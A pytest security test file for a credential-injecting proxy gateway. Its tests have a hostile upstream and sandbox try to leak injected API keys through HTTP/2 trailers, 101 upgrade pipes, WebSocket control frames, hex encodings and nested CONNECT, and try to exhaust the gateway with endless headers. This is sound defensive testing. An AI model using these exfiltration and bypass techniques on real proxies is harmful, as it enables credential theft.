"""Attack pass 1 on the rewritten intercept path (after issue #10).

Each test asserts the secure behaviour against a real gateway (explicit and
transparent listeners, cubevs switch) and a hostile upstream
(testbed/hostile_attack.py: every route of testbed/hostile.py plus shapes outside a
response body). Every test that expects the key to be scrubbed first checks that it
really was injected, so a broken injection cannot pass as "scrubbed".

Targets: evil.allowed.test is bound to ekey (KEY_E, injected as a Bearer token);
evh1.allowed.test is bound to ekey too but speaks HTTP/1.1 only; lkey (KEY_L) is
bound to leak.allowed.test (no upstream), so its placeholder and value are what the
outbound leak check must stop on every request to evil/evh1.
"""
from __future__ import annotations

import base64
import socket
import ssl
import threading
import time
from dataclasses import dataclass

import pytest

from testbed.hostile_attack import ATTACK_HOSTS, ensure_attack_upstream, mixed_case_hex
from tests.gateway import rawclient
from tests.gateway.hostile_env import (TIMEOUT, Sandbox, assert_never_leaked, found_forms, injected_request,
                                       new_marker)
from tests.gateway.switchlab import switch_lab
from tests.gateway.test_exhaustion import RssWatch

pytestmark = pytest.mark.netns

TPORT = 18070
MIB = 1 << 20
CAP = 8                                       # max_connections_per_sandbox
KEY_E = "eK3/p9Zs/sk-live-attack-4c8d1a7b"    # bound to evil + evh1
KEY_L = "lQ5/t1Wy/sk-live-leaky-9e2f6b3c"     # bound to leak.allowed.test only
EVIL, EVH1, LEAK = "evil.allowed.test", "evh1.allowed.test", "leak.allowed.test"
SANDBOX = "sb-atk"
MODES = ("explicit", "transparent")

POLICY = """\
name: attack1
tenant: acme
default: deny
rules:
  - name: attack-lab
    action: allow
    match: {hosts: [evil.allowed.test, evh1.allowed.test, leak.allowed.test], ports: [443, 80]}
"""


def _setup_vault(gw) -> None:
    gw.cli("vault", "init")
    gw.cli("vault", "secret", "put", "acme", "ekey", input=KEY_E + "\n")
    gw.cli("vault", "secret", "put", "acme", "lkey", input=KEY_L + "\n")
    common = ["--tenant", "acme", "--header", "Authorization", "--format", "Bearer {secret}", "--placeholder"]
    gw.cli("vault", "binding", "add", "--id", "b-evil", "--secret", "ekey", "--host", EVIL,
           "--port", "443", "--port", "80", "--allow-plaintext", *common)
    gw.cli("vault", "binding", "add", "--id", "b-evh1", "--secret", "ekey", "--host", EVH1, "--port", "443", *common)
    gw.cli("vault", "binding", "add", "--id", "b-leak", "--secret", "lkey", "--host", LEAK, "--port", "443", *common)


class AttackSandbox(Sandbox):
    """hostile_env.Sandbox, dialling the attack upstream's addresses in transparent mode."""

    def tls(self, host: str, *, port: int = 443, alpn=("http/1.1",), sni=None) -> ssl.SSLSocket:
        if self.mode == "explicit":
            return super().tls(host, port=port, alpn=alpn, sni=sni)
        s = self.connect((ATTACK_HOSTS[host], port))
        ctx = ssl.create_default_context(cafile=str(self.env.gw.ca_cert))
        ctx.set_alpn_protocols(list(alpn))
        s.settimeout(TIMEOUT)
        return ctx.wrap_socket(s, server_hostname=sni or host)

    def plain(self, host: str, port: int = 80) -> socket.socket:
        if self.mode == "explicit":
            return super().plain(host, port)
        return self.connect((ATTACK_HOSTS[host], port))


@dataclass
class Env:
    gw: object
    sw: object
    net: object
    up: object                  # the attack upstream (HostileUpstream: requests(), events())
    ph_e: str                   # the sandbox's placeholder for ekey
    ph_l: str                   # ... and for lkey

    def sandbox(self, mode: str) -> AttackSandbox:
        return AttackSandbox(self, mode, SANDBOX)


@pytest.fixture(scope="module")
def env(lab, tmp_path_factory):
    up = ensure_attack_upstream(lab)
    with switch_lab(lab, tmp_path_factory.mktemp("attack1"), POLICY, sandbox=SANDBOX, tport=TPORT, prefix="ca",
                    settings_extra={"proxy": {"max_connections_per_sandbox": CAP}},
                    before_start=_setup_vault) as (gw, sw, net):
        out = gw.cli("identity", "placeholders", SANDBOX)
        phs = dict(line.split("=", 1) for line in out.split() if "=" in line)
        yield Env(gw, sw, net, up, phs["CUBEGATE_SECRET_EKEY"], phs["CUBEGATE_SECRET_LKEY"])


def _marker() -> str:
    return new_marker("a")


def _injected(env, marker: str) -> dict:
    return injected_request(env.up, marker, KEY_E)


def _wait_events(env, event: str, marker: str, timeout: float = 4.0) -> list[dict]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got = [e for e in env.up.events(event) if marker in (e.get("path") or "")]
        if got:
            return got
        time.sleep(0.05)
    return []


def _exchange_raw(sb: AttackSandbox, scheme: str, host: str, raw: bytes, *, after=None,
                  timeout: float = TIMEOUT) -> bytes:
    """Send raw request bytes, optionally call after(sock, first_bytes), read until close (bounded)."""
    sock = sb.tls(host) if scheme == "https" else sb.plain(host)
    try:
        sock.sendall(raw)
        sock.settimeout(timeout)
        first = b""
        if after is not None:
            try:
                first = sock.recv(65536)
            except (TimeoutError, OSError):
                first = b""
            after(sock, first)
        return first + rawclient.recv_all(sock, timeout, 1 << 20)
    except (ssl.SSLError, OSError):
        return b""
    finally:
        sock.close()


# ----------------------------------------------------------------- HTTP/2, several streams
def h2_session(sock, streams: list[dict], timeout: float = TIMEOUT, pace: float = 0.0) -> dict:
    return rawclient.h2_session(sock, streams, timeout, pace)


def _h2_seen(stream: dict) -> bytes:
    """Everything the sandbox got on one stream: decoded header blocks (HPACK hides them), trailers, data."""
    blocks = stream["headers"] + stream["trailers"]
    return b"".join(f"{k}: {v}\r\n".encode() for k, v in blocks) + stream["data"]


def _h2_get(path: str, host: str = EVIL, method: str = "GET") -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "https"), (":authority", host), (":path", path)]


# ====================================================================== key → sandbox
@pytest.mark.parametrize("mode", MODES)
def test_status_line_reason_phrase_never_carries_the_key(env, mode):
    """HTTP/1.1: the reason phrase of the status line is relayed as the upstream sent it."""
    m = _marker()
    resp = env.sandbox(mode).get("https", EVIL, f"/reason/{m}")
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what=f"{mode} status line")


@pytest.mark.parametrize("cl", ["0", "1"])
def test_h2_response_trailers_never_carry_the_key(env, cl):
    """HTTP/2 upstream → HTTP/2 sandbox: response trailers pass neither the header scrub nor the body scrub."""
    m = _marker()
    sock = env.sandbox("explicit").tls(EVIL, alpn=("h2",))
    try:
        out = h2_session(sock, [{"headers": _h2_get(f"/trailers/{m}?cl={cl}")}])
    finally:
        sock.close()
    _injected(env, m)
    (stream,) = out["streams"].values()
    assert_never_leaked(_h2_seen(stream), KEY_E, what=f"h2 trailers (cl={cl})")


@pytest.mark.parametrize("code", [204, 304])
def test_h2_bodyless_status_with_data_frames_never_carries_the_key(env, code):
    """An HTTP/2 upstream may send DATA after a 204/304 (python-h2 accepts it): the gate streams
    such responses unscrubbed because it assumes they have no body."""
    m = _marker()
    sock = env.sandbox("explicit").tls(EVIL, alpn=("h2",))
    try:
        out = h2_session(sock, [{"headers": _h2_get(f"/nobody/{m}?code={code}")}])
    finally:
        sock.close()
    _injected(env, m)
    (stream,) = out["streams"].values()
    assert_never_leaked(_h2_seen(stream), KEY_E, what=f"h2 {code} with DATA")


UPGRADE = [("Connection", "Upgrade"), ("Upgrade", "foo")]


@pytest.mark.parametrize("mode,scheme", [("explicit", "https"), ("transparent", "https"), ("explicit", "http")])
def test_non_websocket_101_is_not_an_unscrubbed_pipe(env, mode, scheme):
    """A 101 to anything but WebSocket turns the flow into a raw TCP pipe (mitmproxy rawtcp):
    upstream bytes after it are never scrubbed."""
    m = _marker()
    resp = env.sandbox(mode).get(scheme, EVIL, f"/upgrade/{m}", headers=UPGRADE)
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what=f"{mode} {scheme} after 101")


def test_websocket_upgrade_without_version_is_not_an_unscrubbed_pipe(env):
    """mitmproxy treats a 101 as WebSocket only if the request said Sec-WebSocket-Version: 13;
    without it the same WebSocket stream is relayed as raw TCP, unscrubbed."""
    m = _marker()
    hdrs = [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]
    resp = env.sandbox("explicit").get("https", EVIL, f"/ws/{m}", headers=hdrs)
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what="websocket frames without Sec-WebSocket-Version")


@pytest.mark.parametrize("te", ["gzip,chunked", "gzip"])
def test_transfer_coded_response_never_carries_the_key(env, te):
    """Transfer-Encoding gzip is an HTTP coding like Content-Encoding gzip: mitmproxy does not
    decode it, the scrubber sees compressed bytes, and the sandbox gets them to gunzip."""
    m = _marker()
    resp = env.sandbox("explicit").get("https", EVIL, f"/te/{m}?te={te}")
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what=f"Transfer-Encoding: {te}")


@pytest.mark.parametrize("mode", MODES)
def test_websocket_control_frames_never_carry_the_key(env, mode):
    """Ping/pong payloads and the close reason are relayed by mitmproxy as they came: only
    data messages reach the websocket_message hook."""
    m = _marker()
    sock = env.sandbox(mode).tls(EVIL)
    try:
        ws = rawclient.WebSocketClient(sock, EVIL, f"/wsctl/{m}")
        assert ws.accepted, f"WebSocket not accepted: {bytes(ws.wire[:200])!r}"
        ws.wait_closed()
    finally:
        sock.close()
    _injected(env, m)
    assert_never_leaked(bytes(ws.wire), KEY_E, what=f"{mode} websocket ping/close")


def test_mixed_case_hex_of_the_key_is_scrubbed(env):
    """README: every spelling incl. hex is replaced; hex decoders accept any case, the forms
    list only all-lower and all-upper."""
    m = _marker()
    resp = env.sandbox("explicit").get("https", EVIL, f"/hexmixed/{m}")
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what="mixed-case hex")


# Neighbours that held in this pass (kept as regression cases): the key never reaches the
# sandbox, whether the answer is scrubbed or refused.
HELD_NEIGHBOURS = [
    "ce/x?h=identity,gzip&enc=gzip", "ce/x?h=GZIP&enc=gzip", "ce/x?h=%20gzip%20,%20identity&enc=gzip",
    "ce/x?h=gzip,%20br&enc=gzip,br", "ce/x?h=x-gzip&enc=gzip", "ce/x?h=gzip;q=1&enc=gzip",
    "ce/x?h=deflate&enc=gzip", "gzip-split/x", "br-split/x", "hdrname/x",
    "location/x", "header/x", "early-hints/x", "chunked-split/x", "bomb/x?mib=80",
]


@pytest.mark.parametrize("route", HELD_NEIGHBOURS)
def test_scrub_neighbours_that_held(env, route):
    m = _marker()
    name, _, rest = route.partition("/")
    resp = env.sandbox("explicit").get("https", EVIL, f"/{name}/{m}{rest[1:]}", timeout=3)
    _injected(env, m)
    assert_never_leaked(resp.wire, KEY_E, what=route)


@pytest.mark.parametrize("host", [EVIL, EVH1])
def test_h2_absolute_path_does_not_front_another_host(env, host):
    """Issue #10 item 1's rule covers every name a request carries. An HTTP/2 :path in absolute
    form names a host too: relayed to an HTTP/1.1 upstream it becomes an absolute-form request
    target, which RFC 9112 says wins over Host."""
    m = _marker()
    sock = env.sandbox("explicit").tls(host, alpn=("h2",))
    try:
        out = h2_session(sock, [{"headers": [(":method", "GET"), (":scheme", "https"), (":authority", host),
                                             (":path", f"https://{LEAK}/echo/{m}")]}], timeout=3)
    finally:
        sock.close()
    got = env.up.requests(m)
    fronted = [r["target"] for r in got if LEAK in r["target"]
               and any(k.lower() == "authorization" and KEY_E in v for k, v in r["headers"])]
    assert not fronted, f"the key for {host} went out with request target {fronted} ({out['streams']})"


# ================================================================ outbound leak check
def _leaks_in(data: bytes, *values: str) -> list[str]:
    return [f"{v[:6]}…:{hits}" for v in values if (hits := found_forms(data, v))]


def test_h2_request_trailers_are_leak_checked(env):
    """HTTP/2 request trailers are sent upstream after the request hook; nothing checks them."""
    m = _marker()
    sock = env.sandbox("explicit").tls(EVIL, alpn=("h2",))
    try:
        out = h2_session(sock, [{"headers": _h2_get(f"/echo/{m}", method="POST"), "body": b"harmless body",
                                 "trailers": [("x-exfil", env.ph_l)]}])
    finally:
        sock.close()
    got = env.up.requests(m)
    seen = b"".join(f"{k}: {v}\n".encode() for r in got for k, v in r["trailers"])
    assert not _leaks_in(seen, env.ph_l), f"the upstream received the placeholder in a trailer: {seen!r} ({out['streams']})"


@pytest.mark.parametrize("mode", MODES)
def test_websocket_control_frames_are_leak_checked(env, mode):
    """A ping payload or close reason toward the upstream is a channel like a message."""
    from wsproto.events import CloseConnection, Ping

    m = _marker()
    sock = env.sandbox(mode).tls(EVIL)
    try:
        ws = rawclient.WebSocketClient(sock, EVIL, f"/wsctl/{m}?send=0")
        assert ws.accepted, f"WebSocket not accepted: {bytes(ws.wire[:200])!r}"
        try:
            sock.sendall(ws.ws.send(Ping(payload=env.ph_l.encode())))
            time.sleep(0.3)
            sock.sendall(ws.ws.send(CloseConnection(code=1000, reason=env.ph_l)))
        except OSError:
            pass                       # the gateway cut us off: fine
        ws.wait_closed()
    finally:
        sock.close()
    time.sleep(0.5)
    seen = b"".join(base64.b64decode(e.get("data_b64", "")) for e in env.up.events("ws_ctl")
                    if m in (e.get("path") or ""))
    assert not _leaks_in(seen, env.ph_l), f"{mode}: the upstream received the placeholder in a control frame"


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_bytes_after_a_101_are_leak_checked(env, scheme):
    """After a non-WebSocket 101 the sandbox writes whatever it likes to the upstream, unchecked."""
    m = _marker()
    raw = env.sandbox("explicit").request_bytes(scheme, EVIL, f"/upgrade/{m}", headers=UPGRADE)

    def after(sock, first):
        try:
            sock.sendall(b"exfil " + env.ph_l.encode() + b" " + KEY_L.encode() + b"\n")
        except OSError:
            pass
    _exchange_raw(env.sandbox("explicit"), scheme, EVIL, raw, after=after, timeout=3)
    ups = _wait_events(env, "upgraded", m)
    seen = b"".join(base64.b64decode(e["data_b64"]) for e in ups)
    assert not _leaks_in(seen, env.ph_l, KEY_L), f"the upstream received {seen[:200]!r} after the 101"


def test_mixed_case_hex_placeholder_is_leak_checked(env):
    m = _marker()
    mixed = mixed_case_hex(env.ph_l.encode())
    body = b'{"blob": "' + mixed.encode() + b'"}'
    resp = env.sandbox("explicit").get("https", EVIL, f"/echo/{m}", method="POST", body=body,
                                       headers=[("Content-Type", "application/json")])
    got = env.up.requests(m)
    assert not any(mixed.encode() in r["body"] for r in got), f"mixed-case hex of the placeholder reached the upstream ({resp})"


def _upstream_saw(env, marker: str, *values: str) -> list[str]:
    seen = b"".join(r["target"].encode() + str(r["headers"]).encode() + r["body"] + str(r["trailers"]).encode()
                    for r in env.up.requests(marker))
    return _leaks_in(seen, *values)


def test_outbound_neighbours_that_held(env):
    """Expect: 100-continue, a pipelined second request, an HTTP/2 body without content-length,
    and a CONNECT inside an intercepted tunnel: none carries the placeholder upstream."""
    sb = env.sandbox("explicit")
    ph = env.ph_l.encode()
    # 100-continue: the head is checked before the gateway says 100; the body after it
    m1 = _marker()
    raw = sb.request_bytes("https", EVIL, f"/echo/{m1}", method="POST", headers=[
        ("Expect", "100-continue"), ("Content-Length", str(len(ph) + 6))])
    _exchange_raw(sb, "https", EVIL, raw, after=lambda sock, first: sock.sendall(b"token=" + ph), timeout=2)
    # pipelining on plain HTTP: a clean request, then one whose body holds the placeholder
    m2 = _marker()
    first = sb.request_bytes("http", EVIL, f"/echo/{m2}-1", headers=[("Connection", "keep-alive")])
    second = sb.request_bytes("http", EVIL, f"/echo/{m2}-2", method="POST", body=b"token=" + ph)
    _exchange_raw(sb, "http", EVIL, first + second, timeout=2)
    # HTTP/2 POST without content-length, the placeholder at the end of its DATA
    m3 = _marker()
    sock = sb.tls(EVIL, alpn=("h2",))
    try:
        h2_session(sock, [{"headers": _h2_get(f"/echo/{m3}", method="POST"), "body": b"x" * 15000 + ph}], timeout=3)
    finally:
        sock.close()
    # CONNECT inside the intercepted tunnel (mitmproxy runs http_connect again there)
    m4 = _marker()
    inner = (f"CONNECT {LEAK}:443 HTTP/1.1\r\nHost: {LEAK}:443\r\n{sb.auth}\r\n\r\n"
             f"GET /echo/{m4}?t={env.ph_l} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n").encode()
    _exchange_raw(sb, "https", EVIL, inner, timeout=2)
    for m in (m1, m2, m3, m4):
        assert not _upstream_saw(env, m, env.ph_l), f"{m}: the upstream received the placeholder"
    assert len(env.up.requests(f"{m2}-1")) == 1, "the clean pipelined request was not served: the probe proved nothing"


# ==================================================================== shared gateway
def test_request_head_is_bounded_before_it_is_complete(env):
    """mitmproxy buffers a request head until its blank line (its own FIXME); header limits
    run only at requestheaders. A sandbox streams one endless header line."""
    sb = env.sandbox("explicit")
    sock = sb.connect(sb.proxy_addr)
    sent, cut = 0, False
    block = b"a" * MIB
    try:
        with RssWatch(env.gw, limit=32 * MIB) as watch:
            sock.sendall(f"GET http://{EVIL}/echo/{_marker()} HTTP/1.1\r\nHost: {EVIL}\r\n"
                         f"{env.sandbox('explicit').auth}\r\nX-Pad: ".encode())
            sock.settimeout(2)
            deadline = time.monotonic() + 10
            while sent < 64 * MIB and time.monotonic() < deadline and not watch.exceeded.is_set():
                try:
                    sock.sendall(block)
                except OSError:
                    cut = True
                    break
                sent += len(block)
            time.sleep(0.3)
    finally:
        sock.close()
    assert watch.growth <= 32 * MIB, f"gateway RSS grew by {watch.growth / MIB:.0f} MiB for one unfinished head"
    assert cut and sent <= 16 * MIB, f"the gateway accepted {sent / MIB:.0f} MiB of one request head"


def test_upstream_response_head_is_bounded(env):
    """The same on the upstream side: an allowed upstream sends a head that never ends."""
    m = _marker()
    sock = env.sandbox("explicit").tls(EVIL)
    try:
        with RssWatch(env.gw, limit=32 * MIB) as watch:
            sock.sendall(env.sandbox("explicit").request_bytes("https", EVIL, f"/endless-head/{m}?mib=64"))
            sock.settimeout(0.2)
            deadline = time.monotonic() + 15
            while time.monotonic() < deadline and not watch.exceeded.is_set():
                if env.up.events("endless_sent", path=f"/endless-head/{m}"):
                    break
                try:
                    if sock.recv(65536) == b"":
                        break
                except (TimeoutError, OSError) as e:
                    if not isinstance(e, (TimeoutError, socket.timeout)):
                        break
            time.sleep(0.3)
    finally:
        sock.close()
    sent = _wait_events(env, "endless_sent", m)
    assert watch.growth <= 32 * MIB, f"gateway RSS grew by {watch.growth / MIB:.0f} MiB for one upstream head"
    assert sent and sent[0]["sent"] <= 16 * MIB, f"the gateway read {sent} of one response head"


def test_h2_streams_do_not_multiply_upstream_connections(env):
    """The per-sandbox cap counts client connections. Over HTTP/2 to an HTTP/1.1-only upstream
    mitmproxy opens one upstream connection per stream, up to 5 per client connection and
    address (its own Semaphore(5)): the sandbox holds 5x its cap upstream."""
    m = _marker()
    clients, per_client = 3, 5
    results: list[dict] = []

    def one(c: int) -> None:
        sock = env.sandbox("explicit").tls(EVH1, alpn=("h2",))
        try:    # streams 50 ms apart: each finds the previous upstream connection busy
            results.append(h2_session(sock, [{"headers": _h2_get(f"/hold/{m}-{c}-{i}?s=3", host=EVH1)}
                                             for i in range(per_client)], timeout=5, pace=0.05))
        finally:
            sock.close()
    t0 = time.time()
    threads = [threading.Thread(target=one, args=(c,), daemon=True) for c in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(8)
    held = [e for e in env.up.events("connect", server=f"{ATTACK_HOSTS[EVH1]}:443")
            if t0 - 0.2 <= e["t"] < t0 + 2.8]      # opened before any of them was answered: all open at once
    assert len(held) <= CAP, (f"one sandbox (cap {CAP} connections, {clients} used) held {len(held)} upstream "
                              "connections at once")


# =========================================================================== logs
def test_gateway_log_and_audit_never_hold_a_key(env):
    """Runs last: the daemon log and every audit record after all of the above."""
    log = env.gw.log_path.read_bytes()
    audit = "\n".join(str(r) for r in env.gw.audit_records()).encode()
    for key in (KEY_E, KEY_L):
        assert key[:8].encode() not in log and not found_forms(log, key), "gateway log holds a key"
        assert key[:8].encode() not in audit and not found_forms(audit, key), "audit log holds a key"
